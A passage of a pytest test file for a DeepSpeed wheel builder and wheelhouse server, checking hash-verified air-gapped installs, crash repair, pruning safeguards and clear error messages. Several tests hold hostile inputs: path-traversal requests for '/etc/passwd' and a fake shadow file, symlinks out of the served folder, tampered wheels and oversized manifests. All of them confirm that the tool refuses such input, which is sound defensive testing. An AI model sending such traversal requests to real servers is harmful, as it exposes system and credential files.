#   air-gapped node ........ test_the_node_installs_dependencies_from_the_wheelhouse_alone,
#                            test_a_tampered_dependency_is_refused_before_pip_runs,
#                            test_node_installs_its_wheel_from_the_served_wheelhouse (test_pipeline_installs)
#   serve leaks ............ test_serve_hands_out_nothing_from_outside_the_wheelhouse, test_serve_port_is_checked
#   prune wipes ............ test_prune_without_its_recipes_folder_deletes_nothing,
#                            test_a_prune_that_would_empty_the_wheelhouse_needs_all
#   killed publishes ....... test_publishes_killed_at_random_moments_leave_nothing_verify_trips_on,
#                            test_repair_cleans_a_wheelhouse_whose_first_publish_was_killed,
#                            test_a_publish_that_fails_cleanly_leaves_no_journal_and_no_files
#   abi3 never present ..... test_an_abi3_dependency_in_the_wheelhouse_needs_no_index
#   bumped version ......... test_the_build_key_holds_what_names_the_wheel,
#                            test_two_recipe_files_with_one_name_never_replace_each_others_wheel
#   no traceback ........... test_non_utf8_output_of_programs_is_no_traceback, test_a_node_python_printing_bytes,
#                            test_an_unreadable_path_entry_is_skipped, test_serve_port_is_checked,
#                            test_a_hostfile_slots_value_that_is_not_a_number,
#                            test_a_toolchain_folder_under_a_file_is_refused_without_promising_mkdir
#   say what is wrong ...... test_an_edited_torch_field_is_caught_by_verify_and_by_the_node,
#                            test_a_field_contradicting_the_file_name_exits_8_not_9 (above),
#                            test_detect_reports_a_broken_cuda_setup, test_detect_cli_names_a_broken_cuda_setup,
#                            test_the_newest_wheel_is_chosen_by_version_not_by_text_or_publish_time (test_node.py),
#                            test_a_manifest_beyond_any_real_wheelhouse_is_refused_unread


def deps_fetcher(calls: list[list[str]]) -> Any:
    """A FAKE `pip download` (no index here): DeepSpeed's closure as two tiny real wheels, one needing the other."""

    def fetch(reqs: Any, tag: str, dest: Path, log: Any) -> list[Path]:
        calls.append(list(reqs))
        return [dep_wheel(dest, "fakedep-a", "1.0", requires=("fakedep-b>=2",)), dep_wheel(dest, "fakedep-b", "2.1")]

    return fetch


NEEDS_DEPS = METADATA.replace("Requires-Dist: torch==2.13.0\n", "Requires-Dist: fakedep-a>=1\n")


@pytest.fixture
def deps_house(tmp_path: Path) -> Path:
    """A wheelhouse with one FAKE (pip-installable) DeepSpeed wheel needing fakedep-a, which needs fakedep-b."""
    (tmp_path / "dist").mkdir()
    house = tmp_path / "deps-house"
    wheel = fake_wheel(tmp_path / "dist", metadata=NEEDS_DEPS, cpu_target="x86-64")
    publish([wheel], house, fetch_closure=deps_fetcher([]))
    assert verify(house) == []
    return house


def air_gapped_env() -> dict[str, str]:
    """No pip configuration, and an index on a closed port: only the wheelhouse is reachable."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "UV_"))}
    env.update(PIP_CONFIG_FILE="/dev/null", PIP_INDEX_URL="http://127.0.0.1:9/simple/", PIP_NO_CACHE_DIR="1",
               PIP_DISABLE_PIP_VERSION_CHECK="1")  # fmt: skip
    return env


def serving(folder: Path) -> Any:
    import http.server
    import threading

    from builder.wheelhouse.serve import handler_for

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler_for(folder))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_the_manifest_records_each_wheels_closure(deps_house: Path) -> None:
    entry = node.load_wheelhouse(str(deps_house)).wheels[NAME]
    assert entry.requires == ("fakedep_a-1.0-py3-none-any.whl", "fakedep_b-2.1-py3-none-any.whl")


@pytest.mark.spawns
def test_the_node_installs_dependencies_from_the_wheelhouse_alone(deps_house: Path, tmp_path: Path) -> None:
    """Air-gapped node: the published installer (tools/ds-node-install.py) in a venv with pip alone,
    no index reachable; folder, file:// and http:// wheelhouses alike, every file hash-checked by pip."""
    from nodes import node_venv

    python = node_venv(tmp_path / "node")
    server = serving(deps_house)
    try:
        for source in (str(deps_house), deps_house.as_uri(), f"http://127.0.0.1:{server.server_address[1]}/"):
            done = subprocess.run([python, str(deps_house / INSTALLER), "--wheelhouse", source, "--json", *trusted()],
                                  capture_output=True, text=True, env=air_gapped_env())  # fmt: skip
            assert done.returncode == 0, (source, done.stderr[-3000:])
            result = json.loads(done.stdout)
            assert result["installed"] and result["dependencies"] == list(
                node.load_wheelhouse(str(deps_house)).wheels[NAME].requires or ()
            )
            assert "--require-hashes" in done.stderr and "--no-index" in done.stderr
            show = "import fakedep_a, fakedep_b; print(fakedep_a.VERSION, fakedep_b.VERSION)"
            check = subprocess.run([python, "-c", show], capture_output=True, text=True)
            assert check.stdout.split() == ["1.0", "2.1"], check.stderr
            subprocess.run([python, "-m", "pip", "uninstall", "-y", "-q", "deepspeed", "fakedep-a", "fakedep-b"],
                           check=True, env=air_gapped_env())  # fmt: skip
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.spawns
def test_a_tampered_dependency_is_refused_before_pip_runs(deps_house: Path, tmp_path: Path) -> None:
    from nodes import node_venv

    dep = deps_house / "fakedep_b-2.1-py3-none-any.whl"
    dep.write_bytes(dep.read_bytes()[:-8] + b"tampered")  # its size, other bytes
    python = node_venv(tmp_path / "node")
    done = subprocess.run([python, str(deps_house / INSTALLER), "--wheelhouse", str(deps_house), *trusted()],
                          capture_output=True, text=True, env=air_gapped_env())  # fmt: skip
    assert done.returncode == 8 and "fakedep_b-2.1-py3-none-any.whl from" in done.stderr and "has sha256" in done.stderr
    assert "pip install" not in done.stderr and "Traceback" not in done.stderr
    listed = subprocess.run([python, "-m", "pip", "list"], capture_output=True, text=True, env=air_gapped_env())
    assert "deepspeed" not in listed.stdout and "fakedep" not in listed.stdout


def test_an_old_manifest_without_requires_is_refused_by_the_node_and_filled_by_the_next_publish(
    deps_house: Path, tmp_path: Path
) -> None:
    edit_manifest(deps_house, lambda d: d["wheels"][NAME].pop("requires"))
    (deps_house / "manifest.json.sig").unlink()  # as an older toolkit's wheelhouse: no signature
    resign(deps_house, adopt=True)  # adopted once its files check out
    manifest = node.load_wheelhouse(str(deps_house))
    with pytest.raises(ManifestError, match="does not say which dependency files"):
        node.checked_dependencies(str(deps_house), manifest, manifest.wheels[NAME], str(tmp_path))
    other = fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"), metadata=NEEDS_DEPS)
    publish([other], deps_house, fetch_closure=deps_fetcher([]))
    assert node.load_wheelhouse(str(deps_house)).wheels[NAME].requires == (
        "fakedep_a-1.0-py3-none-any.whl", "fakedep_b-2.1-py3-none-any.whl")  # fmt: skip


def test_a_requires_entry_naming_an_unlisted_file_is_tampering(deps_house: Path) -> None:
    edit_manifest(deps_house, lambda d: d["wheels"][NAME]["requires"].append("evil-1.0-py3-none-any.whl"))
    with pytest.raises(ManifestError, match="requires 'evil-1.0-py3-none-any.whl', which no dependency entry lists"):
        node.load_wheelhouse(str(deps_house))
    edit_manifest(deps_house, lambda d: d["wheels"][NAME].__setitem__("requires", ["../../etc/passwd"]))
    with pytest.raises(ManifestError, match="is not a wheel file name"):
        node.load_wheelhouse(str(deps_house))


# ---------------------------------------------------------------- serve


def http_get(url: str) -> tuple[int, bytes]:
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def test_serve_hands_out_nothing_from_outside_the_wheelhouse(
    house: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$secret")
    (house / "x-1.0-py3-none-any.whl").symlink_to(secret)
    (house / "simple" / "rootfs").symlink_to("/")
    (house / "simple" / "up").symlink_to(tmp_path)
    server = serving(house)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        status, body = http_get(f"{base}/{NAME}")
        assert status == 200 and body == (house / NAME).read_bytes()
        assert http_get(f"{base}/simple/")[1] == (house / "simple" / "index.html").read_bytes()  # the index page
        assert http_get(f"{base}/")[1] == (house / "index.html").read_bytes()  # the page people read
        assert http_get(f"{base}/simple/deepspeed/")[0] == 200
        for path in (
            "/x-1.0-py3-none-any.whl",
            "/simple/rootfs/etc/passwd",
            "/simple/rootfs/",
            "/simple/up/shadow",
            "/tools/",
            "/.publish.lock",
            "/%2e%2e/shadow",
            "/simple/../../shadow",
            "/simple/rootfs/root/",
        ):
            status, body = http_get(base + path)
            assert status == 404 and b"root:" not in body and b"<title>Directory listing" not in body, path
    finally:
        server.shutdown()
        server.server_close()
    said = capsys.readouterr().err
    assert "refused '/x-1.0-py3-none-any.whl': a link to" in said and "outside the wheelhouse" in said
    assert "refused '/tools/': cannot open it (No such file or directory)" in said  # no listing of tools/


@pytest.mark.spawns
@pytest.mark.parametrize("port", ["99999", "-5", "http"])
def test_serve_port_is_checked(house: Path, port: str) -> None:
    done = builder("serve", "--wheelhouse", str(house), f"--port={port}")
    assert done.returncode == 2 and "is not a port number (0 to 65535" in done.stderr
    assert "Traceback" not in done.stderr


# ---------------------------------------------------------------- prune


@pytest.mark.spawns
@pytest.mark.parametrize("where", ["no recipes folder", "misspelt --recipes-dir", "empty recipes folder"])
def test_prune_without_its_recipes_folder_deletes_nothing(house: Path, tmp_path: Path, where: str) -> None:
    cwd = tmp_path / "elsewhere"
    cwd.mkdir()
    args = ["prune", "--wheelhouse", str(house)]
    if where == "misspelt --recipes-dir":
        args += ["--recipes-dir", str(ROOT / "recipe")]
    elif where == "empty recipes folder":
        (cwd / "recipes").mkdir()
    before = sorted(p.name for p in house.iterdir())
    done = builder(*args, cwd=cwd)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert ("does not exist" if where != "empty recipes folder" else "holds no recipe") in done.stderr
    assert "--recipes-dir" in done.stderr and sorted(p.name for p in house.iterdir()) == before
    assert verify(house) == []


@pytest.mark.spawns
def test_a_prune_that_would_empty_the_wheelhouse_needs_all(house: Path, tmp_path: Path) -> None:
    recipes = tmp_path / "recipes"
    recipes.mkdir()
    (recipes / "other.toml").write_text(DEFAULT_RECIPE.replace('name = "cpu"', 'name = "other"'))
    done = builder("prune", "--wheelhouse", str(house), "--recipes-dir", str(recipes))
    assert done.returncode == 2 and "prune would remove every wheel" in done.stderr and "--all" in done.stderr
    assert (house / NAME).is_file() and verify(house) == []
    done = builder("prune", "--wheelhouse", str(house), "--recipes-dir", str(recipes), "--all")
    assert done.returncode == 0, done.stderr
    assert not (house / NAME).exists() and f"removed {NAME}" in done.stdout


# ---------------------------------------------------------------- killed and failed publishes

_KILLED_PUBLISH = """
import sys, time
from pathlib import Path
sys.path[:0] = [sys.argv[3], sys.argv[4]]
from fakes import dep_wheel
from builder.wheelhouse import publish

def slow_fetch(reqs, tag, dest, log):  # a FAKE pip download that takes a while
    out = []
    for req in reqs:
        time.sleep(0.1)
        out.append(dep_wheel(dest, req, "1.0"))
    if sys.argv[5] == "die":
        import os, signal
        os.kill(os.getpid(), signal.SIGKILL)
    return out

publish([Path(sys.argv[1])], Path(sys.argv[2]), fetch_closure=slow_fetch)
"""


def start_publish(wheel: Path, house: Path, how: str = "slow") -> subprocess.Popen[bytes]:
    args = [sys.executable, "-c", _KILLED_PUBLISH, str(wheel), str(house), str(ROOT), str(ROOT / "tests"), how]
    return subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def slow_metadata(i: int) -> str:
    """METADATA of 0.19.<i> needing four dependencies of its own: each publish downloads for a while."""
    return METADATA.replace("0.19.8", f"0.19.{i}").replace("Requires-Dist: torch==2.13.0\n", "") + "".join(
        f"Requires-Dist: slowdep{i}x{k}\n" for k in range(4)
    )


@pytest.mark.spawns
def test_publishes_killed_at_random_moments_leave_nothing_verify_trips_on(house: Path, tmp_path: Path) -> None:
    """15 publishes, each killed with SIGKILL at a random moment (seeded); after each, the next publish or
    repair (in turn) removes every leftover, dependency downloads included, and verify passes."""
    import random
    import signal
    import time

    rng = random.Random(20)
    dist = tmp_path / "dist"
    for i in range(15):
        name = NAME.replace("0.19.8", f"0.19.{100 + i}")
        wheel = fake_wheel(dist, name=name, metadata=slow_metadata(100 + i), payload=bytes([i]))
        proc = start_publish(wheel, house)
        time.sleep(rng.uniform(0.1, 1.2))  # start-up takes about 0.4 s, the download 0.4 s, the copies after
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        if i % 2:
            repair(house)
        else:
            publish([fake_wheel(dist, name=NAME.replace("0.19.8", f"0.19.{200 + i}"), payload=bytes([i]))], house)
        problems = verify(house)
        assert problems == [], (i, problems)
        assert not [p for p in house.iterdir() if p.name.startswith(".deps")]


@pytest.mark.spawns
def test_repair_cleans_a_wheelhouse_whose_first_publish_was_killed(tmp_path: Path) -> None:
    house = tmp_path / "first"
    wheel = fake_wheel(tmp_path, metadata=slow_metadata(8))
    assert start_publish(wheel, house, "die").wait() == -9
    left = sorted(p.name for p in house.iterdir())
    assert ".publish-journal.json" in left and NAME in left and any(n.startswith(".deps.") for n in left)
    # Issue 51: verify points at repair (it said "nothing was published there").
    (said,) = verify(house)
    assert said.startswith(f"{house} has no manifest.json but holds ") and "python -m builder repair" in said, said
    removed = repair(house)  # no manifest.json yet: it was refused before
    assert NAME in removed and ".publish-journal.json" in removed
    assert sorted(p.name for p in house.iterdir() if p.is_file()) == [".publish.lock"]
    assert verify(house) == [f"{house} has no manifest.json: nothing was published there"]
    (tmp_path / "dist").mkdir()
    publish([fake_wheel(tmp_path / "dist")], house)
    assert verify(house) == []


def test_repair_refuses_a_folder_no_publish_touched(tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_text("keep")
    with pytest.raises(WheelhouseError, match="has no manifest.json and nothing a publish left"):
        repair(tmp_path)
    assert (tmp_path / "mine.txt").read_text() == "keep"


def test_a_publish_that_fails_cleanly_leaves_no_journal_and_no_files(house: Path, tmp_path: Path) -> None:
    from builder.errors import ToolError

    def no_index(reqs: Any, tag: str, dest: Path, log: Any) -> list[Path]:
        dep_wheel(dest, "half", "1.0")
        raise ToolError("pip download: no index reachable", "FAKE fetcher")

    before = sorted(p.name for p in house.rglob("*"))
    wheel = fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"), metadata=NEEDS_DEPS)
    with pytest.raises(ToolError, match="no index reachable"):
        publish([wheel], house, fetch_closure=no_index)
    assert sorted(p.name for p in house.rglob("*")) == before
    assert verify(house) == []


def test_an_abi3_dependency_in_the_wheelhouse_needs_no_index(tmp_path: Path) -> None:
    """psutil ships cp36-abi3 wheels: once in the wheelhouse it is present for cp311, and a second
    publish on a host with no index asks for nothing."""
    calls: list[list[str]] = []

    def once(reqs: Any, tag: str, dest: Path, log: Any) -> list[Path]:
        calls.append(list(reqs))
        if len(calls) > 1:
            raise AssertionError(f"publish asked the index again for {reqs}")
        return [dep_wheel(dest, "psutil", "7.1.0", tag="cp36-abi3-manylinux_2_17_x86_64.manylinux2014_x86_64")]

    meta = METADATA.replace("Requires-Dist: torch==2.13.0\n", "Requires-Dist: psutil\nRequires-Dist: torch\n")
    dist = tmp_path / "dist"
    dist.mkdir()
    house = tmp_path / "house"
    publish([fake_wheel(dist, metadata=meta)], house, fetch_closure=once)
    other = NAME.replace("0.19.8", "0.19.9")
    publish([fake_wheel(dist, name=other, metadata=meta.replace("0.19.8", "0.19.9"))], house, fetch_closure=once)
    assert calls == [["psutil"]]
    wheels = node.load_wheelhouse(str(house)).wheels
    assert wheels[other].requires == ("psutil-7.1.0-cp36-abi3-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",)
    assert verify(house) == []


# ---------------------------------------------------------------- the build key and wheel names


def test_the_build_key_holds_what_names_the_wheel() -> None:
    import dataclasses

    from builder.wheelbuild.buildkey import MachineFacts, build_key, key_inputs

    recipe = load_recipe(ROOT / "recipes" / "cpu.toml")
    machine = MachineFacts(python="3.11.7")
    key = build_key(key_inputs(recipe, machine, {}))
    bumped = dataclasses.replace(recipe, deepspeed=dataclasses.replace(recipe.deepspeed, version="0.19.99"))
    assert bumped.deepspeed.sha256 == recipe.deepspeed.sha256
    assert build_key(key_inputs(bumped, machine, {})) != key
    renamed = dataclasses.replace(recipe, name="cpu2")
    assert build_key(key_inputs(renamed, machine, {})) != key


def test_two_recipe_files_with_one_name_never_replace_each_others_wheel(tmp_path: Path) -> None:
    """Two recipe files (named alike or not) whose wheels get the same file name: the second build is
    refused before compiling; the same recipe file rebuilds (replacing its own wheel), --force replaces."""
    import dataclasses

    from builder.build import built_from, refuse_name_clash, same_name_clash
    from builder.targets import Target, this_interpreter

    first = tmp_path / "a" / "cpu.toml"
    second = tmp_path / "b" / "cpu.toml"
    third = tmp_path / "c" / "other.toml"
    for path, ops, name in ((first, "cpu_adam", "cpu"), (second, "cpu_lion", "cpu"), (third, "cpu_lion", "other")):
        path.parent.mkdir()
        path.write_text(
            re.sub(r"(?m)^ops = \[.*\]", f'ops = ["{ops}"]', DEFAULT_RECIPE).replace('"cpu"', f'"{name}"', 1)
        )
    dist = tmp_path / "dist"
    dist.mkdir()
    a, b, c = load_recipe(first), load_recipe(second), load_recipe(third)
    wheel = fake_wheel(dist, name=NAME.replace("linux_x86_64", "manylinux_2_28_x86_64"))
    (dist / f"{wheel.name}.build.json").write_text(json.dumps(built_from(a, Target(a, this_interpreter()))))
    version = "0.19.8+cpu.torch2.13"
    refuse_name_clash(a, version, "cp311", dist, force=False)  # the same recipe file: a rebuild
    for other in (b, c):
        with pytest.raises(RecipeError, match=f"was built from {re.escape(str(first))} \\(recipe 'cpu'\\)"):
            refuse_name_clash(other, version, "cp311", dist, force=False)
        refuse_name_clash(other, version, "cp311", dist, force=True)  # --force replaces it, as asked
    refuse_name_clash(b, "0.19.9+cpu.torch2.13", "cp311", dist, force=False)  # another file name: no clash
    # Issue 51, item 11: a copy of the default recipe with platform = "host" was refused as a clash
    # before the tag that tells the names apart was known. It is checked by its own name once built.
    host = dataclasses.replace(b, platform="host")
    refuse_name_clash(host, version, "cp311", dist, force=False)
    same_name_clash(host, dist / NAME.replace("linux_x86_64", "manylinux_2_35_x86_64"), force=False)  # not there
    with pytest.raises(RecipeError, match="made the same file name and would replace it"):
        same_name_clash(host, wheel, force=False)
    same_name_clash(a, wheel, force=False)  # its own wheel, rebuilt


# ---------------------------------------------------------------- no traceback, ever


def fake_program(folder: Path, name: str, body: str) -> Path:
    """A FAKE program (a shell script) standing in for a broken nvcc or Python."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


@pytest.mark.spawns
def test_non_utf8_output_of_programs_is_no_traceback(tmp_path: Path) -> None:
    from builder.cmd import ask, query, run

    garbage = fake_program(tmp_path, "nvcc", "printf 'Cuda compilation tools, release \\377\\376 13.0\\n'\n")
    assert "\ufffd" in query([str(garbage), "--version"])
    assert "\ufffd" in ask([str(garbage)]).stdout
    assert "\ufffd" in run([str(garbage)])


@pytest.mark.spawns
def test_a_node_python_printing_bytes(house: Path, tmp_path: Path) -> None:
    python = fake_program(tmp_path, "python", "printf '\\377\\376{not json\\n'\n")
    done = builder("install", "--wheelhouse", str(house), "--python", str(python), "--dry-run")
    assert done.returncode == 9 and "the node probe printed no usable report" in done.stderr
    assert "--python" in done.stderr and "Traceback" not in done.stderr
    done = builder("detect", "--python", str(python))  # detect's torch probe of the same interpreter
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert f"no torch in {python}: {python} printed no torch report" in done.stdout + done.stderr


def test_an_unreadable_path_entry_is_skipped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A PATH entry this user may not read: FAKE refusals (PermissionError from listdir and stat, as an
    unprivileged user gets them; root here gets none), after which detection goes on."""
    from builder.detect import probes

    locked = tmp_path / "locked"
    locked.mkdir()
    real_listdir, real_stat = os.listdir, os.stat

    def listdir(path: Any) -> list[str]:
        if str(path) == str(locked):
            raise PermissionError(13, "Permission denied", str(path))
        return real_listdir(path)

    def stat_(path: Any, *args: Any, **kwargs: Any) -> Any:
        if str(path).startswith(str(locked) + "/"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_stat(path, *args, **kwargs)

    monkeypatch.setattr(os, "listdir", listdir)
    monkeypatch.setattr(os, "stat", stat_)
    env = {"PATH": f"{locked}{os.pathsep}/usr/bin"}
    compilers, _ = probes.probe_compilers(env, lambda args: "12.2.0")
    assert all(not c.path.startswith(str(locked)) for c in compilers)
    assert [c.name for c in compilers if c.name == "gcc"] == (["gcc"] if shutil.which("gcc", path="/usr/bin") else [])
    assert all(locked not in root.parents for root in probes.toolkit_roots(env, [], None))


@pytest.mark.spawns
@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("runuser"), reason="needs root and runuser to become nobody")
@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="needs a system python3 that user nobody may run")
def test_detect_as_an_unprivileged_user_with_an_unreadable_path_entry(tmp_path: Path) -> None:
    """For real: user nobody runs detect with a PATH entry it may neither list nor search (mode 0700,
    root's), from a venv of the system Python that nobody may run."""
    from builder.envs import TOOLS, pip_sources, uv_binary

    shared = Path("/tmp") / f"ds-builder-path-{os.getpid()}"
    shared.mkdir(mode=0o755)
    try:
        uv = uv_binary(TOOLS)
        subprocess.run([uv, "venv", "-q", "--python", str(SYSTEM_PYTHON), str(shared / "venv")], check=True)
        python = str(shared / "venv" / "bin" / "python")
        subprocess.run([uv, "pip", "install", "-q", "--python", python, *pip_sources().uv_args(), "packaging",
                        "py-cpuinfo", "filelock"], check=True)  # fmt: skip
        locked = shared / "locked"
        locked.mkdir(mode=0o700)
        fake_program(locked, "gcc", "echo 12.2.0\n")
        code = shared / "code"
        shutil.copytree(ROOT / "builder", code / "builder")
        env = {"PYTHONPATH": str(code), "HOME": str(shared), "PATH": f"{locked}{os.pathsep}/usr/bin:/bin"}
        done = subprocess.run(
            [str(shutil.which("runuser")), "-u", "nobody", "--", python, "-m", "builder", "detect", "--json",
             "--python", python],
            capture_output=True, text=True, env=env, cwd="/",
        )  # fmt: skip
        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr[-2000:]
        assert json.loads(done.stdout)["schema"] >= 1
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def test_a_hostfile_slots_value_that_is_not_a_number() -> None:
    from builder.errors import BuilderError
    from builder.wheelhouse.provision import parse_hostfile

    for bad in ("host slots=abc", "host slots=0", "host slots=-2"):
        with pytest.raises(BuilderError, match="hostfile:1: slots=.* is not a whole number of at least 1"):
            parse_hostfile(bad)


def test_a_toolchain_folder_under_a_file_is_refused_without_promising_mkdir(tmp_path: Path) -> None:
    from builder.errors import FolderError
    from builder.wheelbuild.toolchain import ToolchainPlan, apply

    blocker = tmp_path / "bin"
    blocker.write_text("a file")
    for folder in (blocker, blocker / "sub"):
        plan = ToolchainPlan(toolkit=None, compiler_dir=folder, links={"gcc": "/usr/bin/gcc-12"})
        for dry_run in (True, False):
            with pytest.raises(FolderError, match=f"{re.escape(str(blocker))} is a file, not a folder") as err:
                apply(plan, dry_run=dry_run)
            assert err.value.exit_code == 10 and "--folder" in err.value.fix
    assert blocker.read_text() == "a file"


# ---------------------------------------------------------------- say what is wrong


def test_detect_reports_a_broken_cuda_setup(tmp_path: Path) -> None:
    from builder.detect.probes import is_toolkit
    from builder.detect.problems import cuda_setup_problems

    not_a_kit = tmp_path / "empty"
    not_a_kit.mkdir()
    problems = cuda_setup_problems({"CUDA_HOME": str(tmp_path / "gone"), "CUDA_PATH": str(not_a_kit)}, is_toolkit,
                                   "/opt/bad/bin/nvcc", "\ufffd\ufffd garbage\n")  # fmt: skip
    text = [(p.severity, p.message, p.fix) for p in problems]
    assert text[0][:2] == ("error", f"CUDA_HOME={tmp_path / 'gone'} does not exist: torch's JIT and DeepSpeed's op "
                                    "builder take the toolkit from it")  # fmt: skip
    assert "is not a CUDA toolkit" in text[1][1] and "point CUDA_PATH at a CUDA toolkit folder" in text[1][2]
    assert "the first nvcc on PATH (/opt/bad/bin/nvcc) gives no CUDA version" in text[2][1]
    assert "'\ufffd\ufffd garbage'" in text[2][1] and "remove it from PATH" in text[2][2]
    ok = "Cuda compilation tools, release 13.0, V13.0.48\n"
    assert cuda_setup_problems({}, is_toolkit, "/usr/local/cuda/bin/nvcc", ok) == []
    assert "did not run or printed nothing" in cuda_setup_problems({}, is_toolkit, "/x/nvcc", "")[0].message


@pytest.mark.spawns
def test_detect_cli_names_a_broken_cuda_setup(tmp_path: Path) -> None:
    bad = fake_program(tmp_path / "bin", "nvcc", "printf '\\377\\376 not a compiler\\n'\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "CUDA_HOME": str(tmp_path / "no-such-cuda"),
           "PATH": f"{bad.parent}{os.pathsep}{os.environ['PATH']}"}  # fmt: skip
    done = subprocess.run([sys.executable, "-m", "builder", "detect", "--json"], capture_output=True, text=True,
                          env=env, cwd=ROOT)  # fmt: skip
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr[-2000:]
    messages = [p["message"] for p in json.loads(done.stdout)["problems"]]
    assert any(m.startswith(f"CUDA_HOME={tmp_path / 'no-such-cuda'} does not exist") for m in messages), messages
    assert any(f"the first nvcc on PATH ({bad}) gives no CUDA version" in m for m in messages), messages


def test_a_manifest_beyond_any_real_wheelhouse_is_refused_unread(house: Path, tmp_path: Path) -> None:
    """33 MiB of manifest (the limit is 32 MiB; a thousand wheels take about 5 MB): refused by verify,
    by the node, and by publish, with the limit named, before it is parsed."""
    path = house / "manifest.json"
    path.write_text('{"schema": 3, "wheels": {}, "pad": "' + "x" * (33 << 20) + '"}')
    assert verify(house) == [f"{path} is larger than the 32 MiB limit for a manifest: no real wheelhouse has one that "
                             "large"]  # fmt: skip
    with pytest.raises(ManifestError, match="larger than the 32 MiB limit for a manifest"):
        node.load_wheelhouse(str(house))
    with pytest.raises(WheelhouseError, match="32 MiB limit"):
        publish([fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"))], house)
    report = house / f"{NAME}.smoke.json"
    report.write_bytes(b" " * (9 << 20))
    with pytest.raises(SmokeError, match="8 MiB limit for a report"):
        load_report(house / NAME)


def test_a_build_manifest_that_inflates_past_the_limit_is_refused_uninflated(tmp_path: Path) -> None:
    """A wheel whose ds_builder.json inflates to 9 MiB (of zeros: 9 KiB compressed) is refused from its
    declared size, before it is read (issue 20, size limits)."""
    wheel = tmp_path / NAME
    with zipfile.ZipFile(wheel, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("deepspeed-0.19.8+cpu.torch2.13.dist-info/ds_builder.json", b"0" * (9 << 20))
    with zipfile.ZipFile(wheel) as zf, pytest.raises(ManifestError, match="8 MiB limit for a report"):
        node.embedded_build_manifest(zf, NAME)


def test_a_dependency_wheel_replaced_in_the_wheelhouse_is_a_clear_publish_error(
    deps_house: Path, tmp_path: Path
) -> None:
    (deps_house / "fakedep_b-2.1-py3-none-any.whl").write_bytes(b"not a zip")
    other = fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"), metadata=NEEDS_DEPS)
    with pytest.raises(PublishError, match="fakedep_b-2.1-py3-none-any.whl is not a wheel with a METADATA file"):
        publish([other], deps_house, fetch_closure=deps_fetcher([]))
    assert other.name not in {p.name for p in deps_house.iterdir()}  # what it copied was removed


@pytest.mark.parametrize("left", ["nothing", "a half-written page", "the page"])
def test_a_project_page_a_killed_publish_began_is_removed(house: Path, left: str) -> None:
    """Killed after write_index made simple/<new dependency>/ and before the manifest listed it (found by the
    random-kill test above): repair removes the folder when it holds only what publish writes there."""
    page = house / "simple" / "newdep"
    page.mkdir()
    if left == "a half-written page":
        (page / ".index.html.abc123xy.tmp").write_text("<a href")
    elif left == "the page":
        (page / "index.html").write_text('<a href="../../newdep-1.0-py3-none-any.whl">newdep</a>')
    assert any(p.startswith("simple/newdep") for p in verify(house))
    repair(house)
    assert not page.exists() and verify(house) == []
    foreign = house / "simple" / "theirs"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("mine")
    repair(house)
    assert (foreign / "notes.txt").read_text() == "mine"  # not what publish writes: reported, never removed
    assert verify(house) == ["simple/theirs: not a project manifest.json lists"]


# ---------------------------------------------------------------- the third round (issue 28)


@pytest.mark.parametrize("what", ["/dev/zero", "a pipe", "a folder", "2 MiB"])
def test_a_recipe_or_matrix_that_is_not_a_small_regular_file_is_refused_unread(tmp_path: Path, what: str) -> None:
    """`build-wheel --matrix /dev/zero` read until the kernel killed it at 9.4 GB: only a regular
    file of at most 1 MiB is read, and never past that."""
    from builder.targets import load_matrix

    path = Path("/dev/zero")
    if what == "a pipe":
        path = tmp_path / "fifo"
        os.mkfifo(path)
    elif what == "a folder":
        path = tmp_path
    elif what == "2 MiB":
        path = tmp_path / "big.toml"
        path.write_text("# " + "x" * (2 << 20) + "\n")
    expected = "past the 1 MiB" if what == "2 MiB" else "is not a regular file"
    with pytest.raises(RecipeError, match=expected):
        load_recipe(path)
    with pytest.raises(RecipeError, match=expected):
        load_matrix(path)


@pytest.mark.spawns
def test_build_wheel_with_matrix_dev_zero_exits_2(tmp_path: Path) -> None:
    done = builder("build-wheel", "--matrix", "/dev/zero", "--work-dir", str(tmp_path / "w"))
    assert done.returncode == 2 and "matrix /dev/zero is not a regular file" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_deeply_nested_or_huge_op_list_is_one_message(tmp_path: Path) -> None:
    """A 5000-deep nested array was a RecursionError traceback; 100,000 op names took 182 s to refuse
    (a quadratic duplicate check): both are one message, at once."""
    deep = tmp_path / "deep.toml"
    deep.write_text(DEFAULT_RECIPE + "\nextra = " + "[" * 5000 + "]" * 5000 + "\n")
    with pytest.raises(RecipeError, match="nests arrays or tables too deeply"):
        load_recipe(deep)
    import tomllib

    from builder.recipe import parse_recipe

    data = tomllib.loads(DEFAULT_RECIPE)
    with pytest.raises(RecipeError, match="ops lists 100000 names"):
